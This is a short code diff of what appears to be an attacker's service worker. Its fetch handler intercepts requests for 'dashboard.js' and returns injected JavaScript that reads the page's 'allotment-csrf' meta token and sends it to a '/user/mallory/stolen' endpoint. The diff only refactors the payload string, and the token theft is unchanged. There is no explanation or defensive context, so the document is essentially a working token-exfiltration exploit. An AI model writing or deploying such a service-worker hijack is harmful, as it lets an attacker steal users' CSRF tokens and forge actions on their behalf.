@@ -34,7 +34,8 @@ self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim(
 self.addEventListener('fetch', (event) => {
   const path = new URL(event.request.url).pathname;
   if (path.endsWith('dashboard.js')) {
-    const script = "fetch('/user/mallory/stolen?' + document.querySelector('meta[name=allotment-csrf]').content)";
+    const token = "document.querySelector('meta[name=allotment-csrf]').content";
+    const script = "fetch('/user/mallory/stolen?' + " + token + ")";
     event.respondWith(new Response(script, { headers: { 'Content-Type': 'text/javascript' } }));
   }
 });
